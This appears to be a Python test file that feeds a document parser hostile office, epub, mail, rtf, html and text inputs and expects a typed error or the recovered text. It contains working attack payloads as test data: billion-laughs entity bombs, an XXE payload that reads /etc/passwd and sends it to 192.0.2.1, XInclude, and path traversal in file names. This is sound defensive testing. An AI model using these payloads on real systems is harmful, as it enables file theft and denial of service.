"""Office files, books, pages, mails and texts that repeat, nest or refer without end."""

import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

import pytest

from documents.errors import (
    DocumentTooLarge,
    EmptyDocument,
    UnreadableDocument,
    UnsupportedFormat,
)
from tests.documents.hostile_reading import Expected, check

Make = Callable[..., bytes]
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
TYPES = "[Content_Types].xml"
SHARED = (
    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.spreadsheetml.sharedStrings+xml"/>'
)
OPF = b'<package xmlns="http://www.idpf.org/2007/opf">%s</package>'
CHAPTER = "OEBPS/ch\u00e9 0.xhtml"
MAIL = b"From: a@exemple.fr\r\nSubject: Le vote\r\nMIME-Version: 1.0\r\n"
MIXED = MAIL + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"
PART = b"--b\r\nContent-Type: text/plain\r\n\r\n%s\r\n"
FORWARDED = b"--b\r\nContent-Type: message/rfc822\r\n\r\n"

LAUGHS = (
    "<!DOCTYPE a [<!ENTITY l0 'ha'>"
    + "".join(f"<!ENTITY l{n + 1} '{f'&l{n};' * 10}'>" for n in range(9))
    + "]>"
)
LONG = f"<!DOCTYPE a [<!ENTITY l '{'ha' * 50_000}'>]>"
OUTSIDE = "<!DOCTYPE a SYSTEM 'http://192.0.2.1/a.dtd'>"
PARAMETERS = (
    "<!DOCTYPE a [<!ENTITY % f SYSTEM 'file:///etc/passwd'>"
    "<!ENTITY % g '<!ENTITY h SYSTEM \"http://192.0.2.1/%f;\">'>%g;]>"
)
XINCLUDE = '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>'


@dataclass(frozen=True)
class Builders:
    docx: Make
    pptx: Make
    xlsx: Make
    odt: Make
    epub: Make

    def word(self, head: str, inside: str) -> bytes:
        w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
        xml = (
            f'{head}<w:document xmlns:w="{w}"><w:body><w:p><w:r><w:t>Bonjour</w:t></w:r></w:p>'
            f"<w:p><w:r><w:t>{inside}</w:t></w:r></w:p></w:body></w:document>"
        )
        return self.docx("x", parts={"word/document.xml": xml.encode()})

    def content(self, head: str, inside: str) -> bytes:
        o = "urn:oasis:names:tc:opendocument:xmlns"
        xml = (
            f'{head}<o:document-content xmlns:o="{o}:office:1.0" xmlns:text="{o}:text:1.0"><o:body>'
            f"<o:text><text:p>Bonjour</text:p><text:p>{inside}</text:p></o:text></o:body>"
            "</o:document-content>"
        )
        return self.odt(parts={"content.xml": xml.encode()})

    def chapter(self, head: str, inside: str) -> bytes:
        xml = f"{head}<html><body><p>Bonjour</p><p>{inside}</p></body></html>"
        return self.epub("x", parts={CHAPTER: xml.encode()})

    def sheet(self, rows: str, *, strings: str | None = None, head: str = "") -> bytes:
        parts = {
            "xl/worksheets/sheet1.xml": (
                f'<worksheet xmlns="{SHEET}">{head}<sheetData>{rows}</sheetData></worksheet>'
            ).encode()
        }
        plain = self.xlsx({"a": [["Bonjour"]]})
        if strings is not None:
            parts["xl/sharedStrings.xml"] = f'<sst xmlns="{SHEET}">{strings}</sst>'.encode()
            with zipfile.ZipFile(io.BytesIO(plain)) as package:
                types = package.read(TYPES)
            parts[TYPES] = types.replace(b"</Types>", SHARED + b"</Types>")
        return self.xlsx({"a": [["Bonjour"]]}, parts=parts)

    def table(self, attributes: str, inside: str = "<text:p>Bonjour</text:p>") -> bytes:
        return self.odt(
            f"<table:table><table:table-row><table:table-cell {attributes}>{inside}"
            "</table:table-cell></table:table-row></table:table>"
        )


@pytest.fixture
def build(
    make_docx: Make, make_pptx: Make, make_xlsx: Make, make_odt: Make, make_epub: Make
) -> Builders:
    return Builders(make_docx, make_pptx, make_xlsx, make_odt, make_epub)


def inline(text: str) -> str:
    return f'<c t="inlineStr"><is><t>{text}</t></is></c>'


Case = tuple[str, Callable[[Builders], bytes], Expected]
CASES: dict[str, Case] = {
    "xlsx: a million columns": (
        "xlsx",
        lambda b: b.sheet("<row>" + inline("a") * 1_000_000 + "</row>"), DocumentTooLarge),
    "xlsx: a column of every letter": (
        "xlsx",
        lambda b: b.sheet('<row><c r="ZZZZZZ1"><v>1</v></c></row><row>' + inline("Bonjour")
                          + "</row>"), UnreadableDocument),
    "xlsx: a row beyond all rows": (
        "xlsx",
        lambda b: b.sheet(f'<row r="999999999">{inline("Bonjour")}</row>'), EmptyDocument),
    "xlsx: a size that is a lie": (
        "xlsx",
        lambda b: b.sheet(f"<row>{inline('Bonjour')}</row>",
                          head='<dimension ref="A1:XFD1048576"/>'), "Bonjour"),
    "xlsx: one long text ten thousand times": (
        "xlsx",
        lambda b: b.sheet("".join('<row><c t="s"><v>0</v></c></row>' for n in range(10_000)),
                          strings=f"<si><t>{'ha ' * 20_000}</t></si>"), DocumentTooLarge),
    "xlsx: texts without end": (
        "xlsx",
        lambda b: b.sheet(f"<row>{inline('Bonjour')}</row>",
                          strings="<si><t>ha</t></si>" * 50_000), "Bonjour"),
    "docx: a billion laughs": ("docx", lambda b: b.word(LAUGHS, "&l9;"), UnreadableDocument),
    "docx: a long entity often": (
        "docx", lambda b: b.word(LONG, "&l;" * 9000), UnreadableDocument),
    "docx: a DTD elsewhere": ("docx", lambda b: b.word(OUTSIDE, "ok"), "Bonjour"),
    "docx: entities of parameters": (
        "docx", lambda b: b.word(PARAMETERS, "&h;"), UnreadableDocument),
    "docx: another file included": ("docx", lambda b: b.word("", XINCLUDE), "Bonjour"),
    "docx: attributes without end": (
        "docx",
        lambda b: b.word("", "<x " + " ".join(f'a{n}="x"' for n in range(100_000)) + "/>"),
        "Bonjour"),
    "docx: wide letters": (
        "docx",
        lambda b: b.docx("x", parts={"word/document.xml": (
            '<?xml version="1.0" encoding="UTF-16"?><w:document xmlns:w="http://schemas.'
            'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Bonjour</w:t>'
            "</w:r></w:p></w:body></w:document>").encode("utf-16")}), "Bonjour"),
    "docx: a table in a table in a table": (
        "docx",
        lambda b: b.word("", "</w:t></w:r></w:p>" + "<w:tbl><w:tr><w:tc>" * 300 + "<w:p><w:r><w:t>"
                         + "</w:t></w:r></w:p>" + "</w:tc></w:tr></w:tbl>" * 300
                         + "<w:p><w:r><w:t>"), UnreadableDocument),
    "odt: a billion laughs": ("odt", lambda b: b.content(LAUGHS, "&l9;"), UnreadableDocument),
    "odt: a long entity often": (
        "odt", lambda b: b.content(LONG, "&l;" * 9000), UnreadableDocument),
    "odt: entities of parameters": (
        "odt", lambda b: b.content(PARAMETERS, "&h;"), UnreadableDocument),
    "odt: a cell repeated without end": (
        "odt", lambda b: b.table('table:number-columns-repeated="2000000000"'), "Bonjour"),
    "odt: a cell repeated minus once": (
        "odt", lambda b: b.table('table:number-columns-repeated="-1"'), "Bonjour"),
    "odt: a cell repeated often and again": (
        "odt", lambda b: b.table('table:number-rows-repeated="1048576" table:'
                                 'number-columns-repeated="16384"'), "Bonjour"),
    "odt: tables nested deep": (
        "odt",
        lambda b: b.odt("<table:table><table:table-row><table:table-cell>" * 300
                        + "<text:p>Bonjour</text:p>"
                        + "</table:table-cell></table:table-row></table:table>" * 300),
        UnreadableDocument),
    "epub: a billion laughs": ("epub", lambda b: b.chapter(LAUGHS, "&l9;"), "Bonjour"),
    "epub: entities of parameters": ("epub", lambda b: b.chapter(PARAMETERS, "&h;"), "Bonjour"),
    "epub: another file included": ("epub", lambda b: b.chapter("", XINCLUDE), "Bonjour"),
    "epub: a chapter on another machine": (
        "epub",
        lambda b: b.epub("x", parts={"OEBPS/book.opf": OPF % (
            b'<manifest><item id="a" href="http://192.0.2.1/a" media-type="text/html"/></manifest>'
            b'<spine><itemref idref="a"/></spine>')}), UnreadableDocument),
    "epub: a book that is its own chapter": (
        "epub",
        lambda b: b.epub("x", parts={"OEBPS/book.opf": OPF % (
            b'<manifest><item id="a" href="book.opf" media-type="text/html"/></manifest>'
            b'<spine><itemref idref="a"/></spine>')}), EmptyDocument),
    "epub: a book that lies elsewhere": (
        "epub",
        lambda b: b.epub("x", parts={"META-INF/container.xml": (
            b'<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
            b'<rootfile full-path="../../../etc/passwd"/></rootfiles></container>')}),
        UnreadableDocument),
    "epub: a hundred thousand chapters": (
        "epub",
        lambda b: b.epub("x", parts={"OEBPS/book.opf": OPF % (
            b"<manifest>" + b'<item id="a" href="a" media-type="text/html"/>' * 100_000
            + b'</manifest><spine><itemref idref="a"/></spine>')}), UnreadableDocument),
    "eml: thousands of parts": (
        "eml", lambda _: MIXED + PART % b"Bonjour" * 3_000 + b"--b--", "Bonjour"),
    "eml: a mail in a mail in a mail": (
        "eml",
        lambda _: MIXED + PART % b"Bonjour" + (FORWARDED + MIXED) * 200, "Bonjour"),
    "eml: a boundary of every length": (
        "eml",
        lambda _: MAIL + b"Content-Type: multipart/mixed; boundary=" + b"b" * 100_000
        + b"\r\n\r\nBonjour", "Le vote"),
    "eml: ten thousand headers": ("eml", lambda _: MAIL + b"X-A: a\r\n" * 10_000 + b"\r\nBonjour",
                                  "Bonjour"),
    "eml: words encoded without end": (
        "eml",
        lambda _: b"From: a@b.fr\r\nMIME-Version: 1.0\r\nTo: c\r\nSubject: "
        + b"=?utf-8?q?a?= " * 5000 + b"\r\n\r\nBonjour", "Bonjour"),
    "eml: a name that leads elsewhere": (
        "eml",
        lambda _: MIXED + PART % b"Bonjour" + b"--b\r\nContent-Disposition: attachment; "
        b"filename=../../etc/passwd\r\n\r\nx\r\n--b--", "Bonjour"),
    "rtf: objects": (
        "rtf",
        lambda _: rb"{\rtf1 Bonjour{\object\objocx{\*\objdata " + b"00" * 500_000 + b"}}}",
        "Bonjour"),
    "rtf: binary data that is less than none": (
        "rtf", lambda _: rb"{\rtf1 Bonjour{\pict\bin-5 x}\par}", UnreadableDocument),
    "rtf: letters of two bytes without end": (
        "rtf", lambda _: rb"{\rtf1\ansi\uc99999 Bonjour \u233 x\par}", "Bonjour"),
    "rtf: fonts without end": (
        "rtf",
        lambda _: rb"{\rtf1{\fonttbl" + b"".join(rb"{\f%d\fcharset%d x;}" % (n, n)
                                                 for n in range(20_000)) + b"}Bonjour}", "Bonjour"),
    "html: attributes without end": (
        "html",
        lambda _: b"<html><body><p " + b" ".join(b"a%d=x" % n for n in range(4_000))
        + b">Bonjour</p>", "Bonjour"),
    "html: a drawing that laughs": (
        "html",
        lambda _: LAUGHS.encode() + b"<html><body><p>Bonjour</p><svg><text>&l9;</text></svg>",
        "Bonjour"),
    "html: a picture and a page": (
        "html", lambda _: b"GIF89a<html><body><p>Bonjour</p></body></html>", UnsupportedFormat),
    "html: forms in forms": (
        "html", lambda _: b"<html><body><p>Bonjour</p>" + b"<form><select><option>" * 20_000,
        "Bonjour"),
    "html: a word of a megabyte": (
        "html", lambda _: b"<html><body><p>Bonjour " + b"a" * 1_000_000 + b"</p>", "Bonjour"),
    "txt: a word of a megabyte": ("txt", lambda _: b"a" * 1_000_000, "aaaa"),
    "txt: marks and no letters": (
        "txt", lambda _: ("\u202e\u2066\u200b\u200d\ufeff\u00ad" * 1000).encode(), EmptyDocument),
    "txt: tags and no letters": ("txt", lambda _: "\U000e0041\U000e0042".encode() * 9,
                                 EmptyDocument),
    "txt: letters longer than they may be": (
        "txt", lambda _: b"Bonjour \xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf", "Bonjour"),
    "txt: a million line ends": (
        "txt", lambda _: b"Bonjour" + b"\r\n" * 1_000_000 + b"!", "Bonjour"),
    "txt: a letter with ten thousand accents": (
        "txt", lambda _: ("Bonjour e" + "\u0301" * 10_000).encode(), "Bonjour"),
    "txt: wide letters without a mark": (
        "txt", lambda _: "Bonjour à tous, dit-elle.".encode("utf-16-be"), "Bonjour à tous"),
    "md: tables without end": ("md", lambda _: b"# T\n\n" + b"|" * 20_000 + b"\n" + b"|-" * 20_000
                               + b"|\n\nBonjour", "Bonjour"),
    "csv: a billion quotation marks": (
        "csv", lambda _: b"text,title\n" + b'"' * 2_000_001 + b",a\nBonjour,b\n", "Bonjour"),
}  # fmt: skip


@pytest.mark.parametrize("title", CASES)
def test_hostile_markup_gives_a_typed_error_or_its_text(title: str, build: Builders) -> None:
    suffix, make, expected = CASES[title]
    check(make(build), expected, name=f"hostile.{suffix}")
